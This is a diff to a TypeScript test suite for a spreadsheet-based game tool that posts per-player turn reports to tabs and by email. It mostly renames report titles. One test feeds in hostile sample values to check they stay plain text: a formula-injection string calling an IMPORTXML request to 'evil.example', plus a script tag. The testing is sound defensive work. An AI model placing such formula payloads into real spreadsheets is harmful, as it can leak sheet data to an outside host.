@@ -1,6 +1,7 @@
 import { Emulation } from '../../src/local/emulation';
 import { deliverStageReports, withdrawStageReports } from '../../src/gas/stages/views';
 import type { SpreadsheetService } from '../../src/gas/services';
+import { ME_STAGE_RULESET } from '../../src/ledger/me/ruleset';
 
 // A staged ruleset's stage reports land on each player's own tab as CS42's tabs mode does (issue 13): a new
 // column B, the older ones moving right, column A (the orders receipt) untouched, always plain text; a
@@ -54,19 +55,39 @@ describe('deliverStageReports', () => {
     expect(l.outbox().map((m) => [m.to, m.subject, m.body, m.htmlBody])).toEqual([
       [
         'iron@example.com',
-        'Demo empires: report of turn 2, interim for Iron Host',
-        'Demo empires: report of turn 2, interim\n\nYou invade 0506.\nPower 3 → 5',
+        'Demo empires: report of turn 2, stage interim for Iron Host',
+        'Demo empires: report of turn 2, stage interim\n\nYou invade 0506.\nPower 3 → 5',
         undefined,
       ],
     ]);
     expect(l.column('Iron Host', 0)).toEqual(['Iron Host: receipt of turn 2', 'line 1 ok']);
     expect(l.column('Iron Host', 1)).toEqual([
-      'Demo empires: report of turn 2, interim',
+      'Demo empires: report of turn 2, stage interim',
       '',
       'You invade 0506.',
       'Power 3 → 5',
     ]);
     expect(l.column('Iron Host', 2)).toEqual(['old report', 'old line']);
+  });
+
+  it('titles the report with the stage’s words when the ruleset names it, and Undo finds it by them', () => {
+    const l = ledger();
+    const orders = { turn: 2, stage: 'orders', round: 1 };
+    deliverStageReports(
+      l.spreadsheet,
+      new Map([['Iron Host', ['You hold.']]]),
+      orders,
+      'Demo',
+      undefined,
+      ME_STAGE_RULESET,
+    );
+    // ME's orders stage resolves the interim results (2.0A): its words, not its id.
+    expect(l.column('Iron Host', 1)[0]).toBe('Demo: report of turn 2, interim results');
+    expect(l.outbox().map((m) => m.subject)).toEqual([
+      'Demo: report of turn 2, interim results for Iron Host',
+    ]);
+    expect(withdrawStageReports(l.spreadsheet, ['Iron Host'], orders, 'Demo', ME_STAGE_RULESET)).toEqual([]);
+    expect(l.column('Iron Host', 1)).toEqual(['old report', 'old line']);
   });
 
   it('makes a missing player tab and says so', () => {
@@ -79,10 +100,10 @@ describe('deliverStageReports', () => {
     );
     expect(notes).toEqual([
       'Player tab made for Sea Lords (their stage report is on it).',
-      'Not emailed to Sea Lords (no email on the Players tab): Demo: report of turn 4, spend round 3; it is on their tab.',
+      'Not emailed to Sea Lords (no email on the Players tab): Demo: report of turn 4, stage spend, round 3; it is on their tab.',
     ]);
     expect(l.column('Sea Lords', 1)).toEqual([
-      'Demo: report of turn 4, spend round 3',
+      'Demo: report of turn 4, stage spend, round 3',
       '',
       'Nothing happened to you.',
     ]);
@@ -94,7 +115,7 @@ describe('deliverStageReports', () => {
     const hostile = ['=IMPORTXML("http://evil.example","//a")', '<script>alert(1)</script>', '+1', '0042'];
     deliverStageReports(l.spreadsheet, new Map([['Iron Host', [...hostile, ...long]]]), CLOCK, '');
     const b = l.column('Iron Host', 1);
-    expect(b.slice(0, 6)).toEqual(['report of turn 2, interim', '', ...hostile]);
+    expect(b.slice(0, 6)).toEqual(['report of turn 2, stage interim', '', ...hostile]);
     expect(b).toHaveLength(1206);
     expect(b[1205]).toBe('line 1200');
     const formulas = l.uncounted(
@@ -129,13 +150,13 @@ describe('deliverStageReports', () => {
     warn.mockRestore();
     expect(notes).toEqual([
       'Player tab made for Sea Lords (their stage report is on it).',
-      'Iron Host’s report of turn 2, interim could not be written on their tab (Service Spreadsheets timed out); the stage itself is resolved.',
-      'Not emailed to Sea Lords (no email on the Players tab): Demo: report of turn 2, interim; it is on their tab.',
+      'Iron Host’s report of turn 2, stage interim could not be written on their tab (Service Spreadsheets timed out); the stage itself is resolved.',
+      'Not emailed to Sea Lords (no email on the Players tab): Demo: report of turn 2, stage interim; it is on their tab.',
     ]);
     expect(l.outbox().map((m) => [m.to, m.body])).toEqual([
-      ['iron@example.com', 'Demo: report of turn 2, interim\n\na'],
+      ['iron@example.com', 'Demo: report of turn 2, stage interim\n\na'],
     ]);
-    expect(l.column('Sea Lords', 1)).toEqual(['Demo: report of turn 2, interim', '', 'b']);
+    expect(l.column('Sea Lords', 1)).toEqual(['Demo: report of turn 2, stage interim', '', 'b']);
     expect(l.column('Iron Host', 1)).toEqual(['old report', 'old line']);
   });
 
@@ -144,7 +165,7 @@ describe('deliverStageReports', () => {
     deliverStageReports(l.spreadsheet, new Map([['Iron Host', ['You invade 0506.']]]), CLOCK, 'Demo');
     const other = { turn: 2, stage: 'orders', round: 1 };
     expect(withdrawStageReports(l.spreadsheet, ['Iron Host', 'Sea Lords'], other, 'Demo')).toEqual([]);
-    expect(l.column('Iron Host', 1)[0]).toBe('Demo: report of turn 2, interim');
+    expect(l.column('Iron Host', 1)[0]).toBe('Demo: report of turn 2, stage interim');
     expect(withdrawStageReports(l.spreadsheet, ['Iron Host', 'Sea Lords'], CLOCK, 'Demo')).toEqual([]);
     expect(l.column('Iron Host', 0)).toEqual(['Iron Host: receipt of turn 2', 'line 1 ok']);
     expect(l.column('Iron Host', 1)).toEqual(['old report', 'old line']);
@@ -160,8 +181,8 @@ describe('deliverStageReports', () => {
     withdrawStageReports(l.spreadsheet, ['Iron Host'], CLOCK, 'Demo');
     send(['You invade 0506.']);
     expect(l.outbox().map((m) => m.subject)).toEqual([
-      'Demo: report of turn 2, interim for Iron Host',
-      'Demo: report of turn 2, interim for Iron Host (corrected)',
+      'Demo: report of turn 2, stage interim for Iron Host',
+      'Demo: report of turn 2, stage interim for Iron Host (corrected)',
     ]);
     deliverStageReports(
       l.spreadsheet,
@@ -170,7 +191,7 @@ describe('deliverStageReports', () => {
       'Demo',
     );
     expect(l.outbox()).toHaveLength(3);
-    expect(l.outbox()[2].subject).toBe('Demo: report of turn 2, final for Iron Host');
+    expect(l.outbox()[2].subject).toBe('Demo: report of turn 2, stage final for Iron Host');
   });
 
   it('takes the emails from the tabs Resolve read, reading no tab for them', () => {
